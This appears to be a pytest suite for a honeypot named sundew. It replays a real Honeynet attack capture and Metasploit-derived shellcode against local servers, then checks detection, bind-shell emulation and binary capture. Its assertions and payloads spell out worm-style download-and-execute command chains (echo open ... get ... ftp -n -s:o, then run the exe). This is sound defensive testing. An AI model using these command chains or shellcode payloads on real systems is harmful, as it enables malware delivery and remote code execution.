"""The capture chain end to end: from an exploit to a stored binary.

Real captures and shellcode from ../shared/corpora, with their public
addresses pointed at local servers by download.connect_to; nothing leaves
the test's network namespace.
"""
import datetime
import hashlib
import os
import random
import socket
import subprocess
import threading
import time

import pytest

from conftest import (CORPORA, GENERIC_PORT, SUNDEW, connect, needs_corpus,
                      sample, wait_for)
import pcapcarve
from test_analyser_limits import BIND_SHELL, NO_ACTION
from test_download import FtpServer

HONEYNET = CORPORA / "pcaps" / "attack" / "honeynet-fc2010-1_attack-trace.pcap"
WINEXEC = CORPORA / "shellcode" / \
    "libemu_08_win32-exec-exitfunc-seh-cmd-cmd-c-ftp-exe-s-foo-scripted-seq.bin"
ATTACKER, VICTIM = "98.114.205.102", "192.150.11.111"


def listening_tcp_ports():
    """The TCP ports something listens on in this network namespace."""
    ports = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(name) as f:
            next(f)
            for line in f:
                fields = line.split()
                if fields[3] == "0A":                # TCP_LISTEN
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


@needs_corpus(HONEYNET)
def test_honeynet_attack_end_to_end(sundew, tmp_path):
    # The file the attacker's FTP server sent, carved from the capture's
    # own data stream (active mode: the server connected to port 1080).
    ssms = pcapcarve.tcp_stream(HONEYNET, ATTACKER, 2152, VICTIM, 1080)
    assert ssms[:2] == b"MZ" and len(ssms) == 158720
    sha = hashlib.sha256(ssms).hexdigest()
    root = tmp_path / "ftp"
    root.mkdir()
    (root / "ssms.exe").write_bytes(ssms)
    ftp = FtpServer(root, 8884, "1", "1", "active")
    try:
        # The replay comes from 127.0.0.1, so "open 0.0.0.0 8884" in the
        # attacker's script means 127.0.0.1:8884; the rule lets it pass.
        d = sundew(["download.connect_to=127.0.0.1:8884:127.0.0.1:8884"])
        r = subprocess.run([str(SUNDEW), "replay", str(HONEYNET), "--to",
                            "127.0.0.1"], capture_output=True, text=True,
                           timeout=120)
        assert r.returncode == 0, r.stdout + r.stderr
        assert "summary: 3 played, 0 failed, 2 skipped" in r.stdout, r.stdout
        stored = d.wait_events("sundew.file.stored", kind="binary",
                               timeout=30)
        d.stop()
    finally:
        ftp.close()
    assert ftp.sent == ["ssms.exe"]
    assert [e["sha256"] for e in stored] == [sha]
    assert (d.data / "binaries" / sha).read_bytes() == ssms
    # One session id tells the story: the exploit's, on 445.
    session = stored[0]["session"]
    assert stored[0]["dst_port"] == 445
    # The exploit's stub is kept too (a hexdump): the sample is the binary.
    story = [e["eventid"] + (":" + e["kind"] if "kind" in e else "")
             for e in d.events(session=session)]
    detected = d.events("sundew.shellcode.detected", session=session)
    assert len(detected) == 1
    assert {"action": "bind_shell", "port": 1957} in [
        {k: a[k] for k in ("action", "port")} for a in detected[0]["actions"]]
    url = "ftp://1:1@127.0.0.1:8884/ssms.exe"
    offers = d.events("sundew.download.offer", session=session)
    assert [e["url"] for e in offers] == [url]
    complete = d.events("sundew.download.complete", session=session)
    assert [(e["url"], e["sha256"], e["size"]) for e in complete] == \
        [(url, sha, len(ssms))]
    commands = [e["command"] for e in
                d.events("sundew.shell.command", session=session)]
    assert commands == ["echo open 0.0.0.0 8884 > o", "echo user 1 1 >> o",
                        "echo get ssms.exe >> o", "echo quit >> o",
                        "ftp -n -s:o", "del /F /Q o", "ssms.exe", "ssms.exe"]
    order = ["sundew.shellcode.detected", "sundew.shell.command",
             "sundew.download.offer", "sundew.download.complete",
             "sundew.file.stored:binary"]
    firsts = [story.index(e) for e in order]
    assert firsts == sorted(firsts), story
    assert not d.events("sundew.download.failed")


def test_benign_payloads_open_no_port_and_fetch_nothing(sundew):
    # Programs (their help texts hold URLs and commands) and random bytes:
    # reported at most, never carried out.  One sensor, so that the
    # verdict on a last payload comes after every other one.
    d = sundew(["sensors=1"])
    before = listening_tcp_ports()
    progs = sorted(p.path for p in os.scandir("/usr/bin")
                   if p.is_file(follow_symlinks=False)
                   and 0 < p.stat().st_size <= 512 * 1024)
    rng = random.Random(9)
    payloads = [open(p, "rb").read() for p in progs[:300]]
    payloads += [rng.randbytes(rng.randrange(1000, 200000))
                 for _ in range(100)]
    for p in payloads:
        s = connect(GENERIC_PORT, src="127.0.0.98")
        s.sendall(p)
        s.close()
    s = connect(GENERIC_PORT, src="127.0.0.99")
    s.sendall(NO_ACTION)
    s.close()
    d.wait_events("sundew.shellcode.unknown", src_ip="127.0.0.99",
                  timeout=120)
    assert listening_tcp_ports() == before
    d.stop()
    assert len(d.events("sundew.connection.close", src_ip="127.0.0.98")) == \
        len(payloads)
    for eventid in ("sundew.download.offer", "sundew.download.failed",
                    "sundew.shell.open", "sundew.shell.command"):
        assert d.events(eventid) == [], eventid


def stamp(ev):
    return datetime.datetime.fromisoformat(ev["timestamp"].replace("Z", "+00:00"))


def test_bind_shell_listens_while_the_exploit_is_open(sundew):
    # The exploit's connection stays open, as in the Honeynet attack: the
    # payload is analysed once the input has been quiet a moment, and the
    # port its shellcode asks for listens within half a second of its
    # last byte (the sensor's own clock: the request event).
    d = sundew(["sensors=1"])
    exp = connect(GENERIC_PORT, src="127.0.0.31")
    exp.sendall(BIND_SHELL)
    req = d.wait_events("sundew.request", src_ip="127.0.0.31")[0]
    session = req["session"]
    opened = d.wait_events("sundew.shell.open", session=session,
                           state="listening", timeout=5)[0]
    assert opened["port"] == 4444
    assert 0 <= (stamp(opened) - stamp(req)).total_seconds() < 0.5
    shell = connect(4444)
    assert shell.recv(10)              # cmd.exe's banner
    shell.close()
    # The same shellcode again, in the same session (analysed again, at
    # close): the port is not asked for twice, the verdict not said twice.
    exp.sendall(BIND_SHELL)
    exp.close()
    d.wait_events("sundew.connection.close", session=session)
    barrier = connect(GENERIC_PORT, src="127.0.0.32")
    barrier.sendall(NO_ACTION)
    barrier.close()
    d.wait_events("sundew.shellcode.unknown", src_ip="127.0.0.32", timeout=20)
    d.stop()
    assert len(d.events("sundew.shell.open", session=session,
                        state="listening")) == 1
    assert len(d.events("sundew.shellcode.detected", session=session)) == 1


@needs_corpus(WINEXEC)
def test_ftp_script_in_shellcode(sundew, tmp_path):
    # Metasploit's win32_exec from libemu's tests runs the command at its
    # end with WinExec: here a worm's script, written with echo and run
    # with ftp -s:, as the command.  The analyser reads it from the
    # emulated WinExec; 0.0.0.0 is the attacker's address.
    code = WINEXEC.read_bytes()
    cmd = (b"cmd /c echo open 0.0.0.0 2121> o&echo user up load>> o&"
           b"echo binary>> o&echo get w.exe>> o&echo bye>> o&ftp -n -s:o")
    payload = code[:code.index(b"cmd -c ftp.exe")] + cmd + b"\0"
    body = sample(30000, 8)
    root = tmp_path / "ftp"
    root.mkdir()
    (root / "w.exe").write_bytes(body)
    ftp = FtpServer(root, 2121, "up", "load", "active")
    try:
        d = sundew(["download.connect_to=127.0.0.41:2121:127.0.0.1:2121"])
        exp = connect(GENERIC_PORT, src="127.0.0.41")
        exp.sendall(payload)
        session = d.wait_events("sundew.connection.open",
                                src_ip="127.0.0.41")[0]["session"]
        stored = d.wait_events("sundew.file.stored", session=session,
                               kind="binary", timeout=30)
        exp.close()
        d.stop()
    finally:
        ftp.close()
    sha = hashlib.sha256(body).hexdigest()
    assert [e["sha256"] for e in stored] == [sha]
    assert (d.data / "binaries" / sha).read_bytes() == body
    assert ftp.sent == ["w.exe"]
    det = d.events("sundew.shellcode.detected", session=session)
    assert len(det) == 1
    url = "ftp://up:load@127.0.0.41:2121/w.exe"
    assert {"action": "download", "url": url, "evidence": "emulated"} in \
        det[0]["actions"]
    assert [e["url"] for e in
            d.events("sundew.download.offer", session=session)] == [url]


def test_trickled_payload_is_analysed_in_windows(sundew):
    # 300 KiB, a pause, then 300 KiB with a bind shell 250 KiB into it:
    # the second look sees what is new (and 64 KiB before), the port
    # opens while the session is open, and the verdict's offset counts
    # from the start of the session's input.
    rng = random.Random(5)
    first = bytes(b & 0x3F for b in rng.randbytes(300 * 1024))
    second = bytearray(b & 0x3F for b in rng.randbytes(300 * 1024))
    second[250 * 1024:250 * 1024 + len(BIND_SHELL)] = BIND_SHELL
    d = sundew(["sensors=1"])
    exp = connect(GENERIC_PORT, src="127.0.0.51")
    exp.sendall(first)
    session = d.wait_events("sundew.request", src_ip="127.0.0.51")[0]["session"]
    time.sleep(0.6)
    exp.sendall(bytes(second))
    opened = d.wait_events("sundew.shell.open", session=session,
                           state="listening", timeout=10)
    assert opened[0]["port"] == 4444
    det = d.events("sundew.shellcode.detected", session=session)
    assert len(det) == 1
    assert det[0]["offset"] == len(first) + 250 * 1024 + 16
    exp.close()
    d.stop()
